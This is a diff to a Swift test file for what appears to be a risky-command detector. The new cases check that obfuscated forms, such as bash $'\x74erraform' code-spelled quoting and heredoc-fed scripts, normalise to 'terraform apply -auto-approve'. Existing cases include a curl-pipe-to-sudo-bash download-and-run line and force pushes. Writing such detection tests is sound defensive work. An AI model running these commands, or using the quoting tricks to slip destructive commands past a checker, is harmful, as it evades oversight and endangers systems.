@@ -18,6 +18,10 @@ struct CommandFindingTests {
         ("git push origin +main", "git push --force origin main"),
         ("git push origin HEAD:main --force", "git push --force origin main"),
         ("curl -s https://x.example | sudo bash -", "curl -s https://x.example | bash"),
+        // bash's quoting that spells characters by code.
+        ("$'\\x74erraform' apply -auto-approve", "terraform apply -auto-approve"),
+        ("$'\\164erraform' apply $'-auto-approve'", "terraform apply -auto-approve"),
+        ("$\"terraform\" apply -auto-approve", "terraform apply -auto-approve"),
         // Scripts fed to a shell as its input, here or on another machine.
         ("bash <<'EOF'\nterraform apply -auto-approve\nEOF", "terraform apply -auto-approve"),
         ("cat <<EOF | sh\nterraform apply -auto-approve\nEOF", "terraform apply -auto-approve"),
